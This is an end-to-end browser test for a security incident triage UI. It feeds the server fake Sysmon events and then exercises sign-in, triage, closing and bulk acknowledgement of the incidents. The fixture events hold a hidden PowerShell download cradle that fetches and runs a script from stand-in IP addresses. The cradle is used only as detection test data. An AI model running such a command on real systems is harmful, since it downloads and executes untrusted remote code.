/**
 * The standalone UI end to end in a real browser: Debian's chromium driven by playwright-core
 * against the real embedded server (API_AUTH=actions: reads need no token, actions do). Two
 * Sysmon process starts (an Office document spawning a PowerShell download cradle, on two hosts)
 * become two incidents; the analyst opens `/`, sees the queue without signing in, signs in with a
 * token, opens an incident, finds the matched command line in its evidence, triages it (a verdict
 * and a severity), closes it with a reason, reads the close in the status history, and acknowledges the other incident
 * with a bulk action. Screenshots of each step go to .tmp/ui-screenshots/ (gitignored).
 *
 * Without /usr/bin/chromium the suite is skipped with the reason in its name; under CI=true
 * (.ci/run installs it) it fails instead.
 */
import { execFileSync } from 'node:child_process'
import fs from 'node:fs'
import path from 'node:path'
import { chromium, type Browser, type Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { need } from '../../../test/support/need.js'
import { REPO_ROOT, post, startTestServer } from '../helpers.js'

const CHROMIUM = '/usr/bin/chromium'
const SHOTS = path.join(REPO_ROOT, '.tmp/ui-screenshots')
const PLUGIN = path.join(REPO_ROOT, 'grafana/plugins/watchfloor-app')
const browserNeed = need(fs.existsSync(CHROMIUM) ? '' : `${CHROMIUM} is missing (apt-get install chromium)`, () => `CI=true and ${CHROMIUM} is missing (.ci/run installs it)`)

// two hosts, two users, two download servers: nothing for the correlator to join, so two incidents
const HOSTS = { 'WKS-7': { user: 'jdoe', ip: '198.51.100.200' }, 'WKS-9': { user: 'asmith', ip: '203.0.113.77' } } as const
type Host = keyof typeof HOSTS
const cmd = (host: Host) => `powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://${HOSTS[host].ip}/${host}.ps1')`
const sysmon = (host: Host, minutesAgo: number) => ({
  EventID: 1,
  Channel: 'Microsoft-Windows-Sysmon/Operational',
  SourceName: 'Microsoft-Windows-Sysmon',
  Hostname: `${host}.corp.example`,
  UtcTime: new Date(Date.now() - minutesAgo * 60_000).toISOString().replace('T', ' ').replace('Z', ''),
  Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
  CommandLine: cmd(host),
  ParentImage: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
  User: `CORP\\${HOSTS[host].user}`,
  ProcessId: 4242,
})

describe.skipIf(!browserNeed.have)(browserNeed.title('the standalone UI in Chromium'), () => {
  let server: Awaited<ReturnType<typeof startTestServer>>
  let browser: Browser
  let page: Page
  const errors: string[] = []
  const shot = (name: string) => page.screenshot({ path: path.join(SHOTS, `${name}.png`), fullPage: true })

  beforeAll(async () => {
    // `npm test` builds it first; a lone run of this file builds the bundle when it is missing
    if (!fs.existsSync(path.join(PLUGIN, 'dist-standalone/index.html'))) execFileSync(process.execPath, ['.config/esbuild/standalone.mjs'], { cwd: PLUGIN, stdio: 'ignore' })
    fs.mkdirSync(SHOTS, { recursive: true })
    server = await startTestServer()
    for (const [host, ago] of [
      ['WKS-7', 30],
      ['WKS-9', 20],
    ] as const) {
      expect((await post(`${server.url}/api/ingest`, JSON.stringify(sysmon(host, ago)), 'application/json')).status).toBe(202)
    }
    for (let i = 0; i < 100; i++) {
      const list = (await (await fetch(`${server.url}/api/incidents?limit=10`)).json()) as { total: number }
      if (list.total >= 2) break
      await new Promise((r) => setTimeout(r, 100))
    }
    browser = await chromium.launch({ executablePath: CHROMIUM, headless: true, args: process.getuid?.() === 0 ? ['--no-sandbox'] : [] })
    page = await browser.newPage({ viewport: { width: 1440, height: 900 } })
    page.setDefaultTimeout(10_000)
    page.on('pageerror', (e) => errors.push(`pageerror: ${e.message}`))
    // a console error is the browser's echo of a refused request, listed below with its URL
    page.on('response', (r) => {
      if (r.status() >= 400) errors.push(`${r.status()} ${new URL(r.url()).pathname}`)
    })
  }, 90_000)

  afterAll(async () => {
    await browser?.close()
    await server?.cleanup()
  })

  const incidents = async () => ((await (await fetch(`${server.url}/api/incidents?limit=10`)).json()) as { incidents: { id: string; title: string; entities?: unknown }[] }).incidents
  interface Detail {
    status: string
    status_history: { to: string; close_reason?: string }[]
    triage_submissions?: { verdict: string; severity: string; by: string }[]
  }
  const detail = async (id: string) => (await (await fetch(`${server.url}/api/incident/${id}`)).json()) as Detail

  it('shows the queue at / without a token, with the overview numbers and safe headers', async () => {
    const res = await page.goto(`${server.url}/`)
    expect(res?.status()).toBe(200)
    const headers = res?.headers() ?? {}
    expect(headers['content-security-policy']).toContain("script-src 'self'")
    expect(headers['x-content-type-options']).toBe('nosniff')
    expect(headers['referrer-policy']).toBe('no-referrer')
    await page.getByTestId('wf-queue').waitFor()
    await expect.poll(() => page.locator('[data-testid^="wf-row-"]').count(), { timeout: 10_000 }).toBe(2)
    expect(await page.getByTestId('wf-stat-open').innerText()).toContain('2')
    expect(await page.getByTestId('wf-signin-open').isVisible()).toBe(true)
    // the overview charts of the same range: both incidents, the open queue, the user, the techniques
    const label = await page.getByTestId('wf-chart-incidents').getByRole('img').getAttribute('aria-label')
    expect(label).toMatch(/^2 incidents: /)
    expect(await page.getByTestId('wf-chart-open').innerText()).toMatch(/new\s*2/)
    expect(await page.getByTestId('wf-chart-top').innerText()).toContain('user jdoe')
    expect(await page.getByTestId('wf-chart-attack').innerText()).toContain('T1059.001')
    await shot('1-queue')
  })

  it('signs in with an API token kept in session storage, never in the URL', async () => {
    const token = server.adminToken?.token
    expect(token).toBeTruthy()
    await page.getByTestId('wf-signin-open').click()
    await page.getByTestId('wf-signin-token').fill(token!)
    await shot('2-sign-in')
    await page.getByTestId('wf-signin-submit').click()
    await page.getByTestId('wf-signout').waitFor()
    expect(await page.evaluate(() => sessionStorage.getItem('watchfloor.token'))).toBe(token)
    expect(await page.evaluate(() => localStorage.length)).toBe(0)
    expect(page.url()).toBe(`${server.url}/`)
    await expect.poll(() => page.locator('[data-testid^="wf-row-"]').count(), { timeout: 10_000 }).toBe(2)
  })

  let first: string
  let second: string
  it('opens an incident and shows the command line that matched', async () => {
    const list = await incidents()
    const ids = list.map((i) => i.id)
    expect(ids).toHaveLength(2)
    first = ids[0]!
    second = ids[1]!
    await page.getByTestId(`wf-row-${first}`).click()
    await page.getByTestId('wf-drawer').waitFor()
    const expected = cmd(JSON.stringify(await detail(first)).includes('WKS-9') ? 'WKS-9' : 'WKS-7')
    await expect.poll(() => page.getByTestId('wf-section-evidence').innerText(), { timeout: 10_000 }).toContain(expected)
    await page.getByTestId('wf-section-events').waitFor()
    await shot('3-incident-evidence')
  })

  it('triages it, closes it with a reason, and shows the close in the status history', async () => {
    const drawer = page.getByTestId('wf-drawer')
    await drawer.getByTestId('wf-action-triage').click()
    await drawer.getByTestId('wf-input-verdict').selectOption('true_positive')
    await drawer.getByTestId('wf-input-severity').selectOption('HIGH')
    await drawer.getByTestId('wf-form-triage').getByTestId('wf-submit').click()
    await expect.poll(() => page.getByTestId('wf-notice').innerText(), { timeout: 10_000 }).toContain('Triage recorded')
    expect((await detail(first)).triage_submissions).toMatchObject([{ verdict: 'true_positive', severity: 'HIGH' }])
    await drawer.getByTestId('wf-action-close').click()
    await drawer.getByTestId('wf-input-close-reason').selectOption('false_positive')
    await drawer.getByTestId('wf-input-reason').fill('test document from the red team')
    await shot('4-close-form')
    await drawer.getByTestId('wf-submit').click()
    await expect.poll(async () => (await detail(first)).status, { timeout: 10_000 }).toBe('closed')
    const history = drawer.getByTestId('wf-section-history')
    await expect.poll(() => history.innerText(), { timeout: 10_000 }).toContain('(false positive): test document from the red team')
    expect((await detail(first)).status_history.at(-1)).toMatchObject({ to: 'closed', close_reason: 'false_positive' })
    await history.scrollIntoViewIfNeeded()
    await shot('5-closed-history')
    await drawer.getByTestId('wf-drawer-close').click()
  })

  it('acknowledges the other incident with a bulk action', async () => {
    await page.getByTestId(`wf-select-${second}`).check()
    const bulk = page.getByTestId('wf-bulk-bar')
    await bulk.getByTestId('wf-bulk-action-acknowledge').click()
    await page.getByTestId('wf-notice').waitFor()
    await expect.poll(async () => (await detail(second)).status, { timeout: 10_000 }).toBe('in_progress')
    await shot('6-bulk-acknowledged')
  })

  it('logged no page errors along the way', () => {
    expect(errors).toEqual([])
  })
})
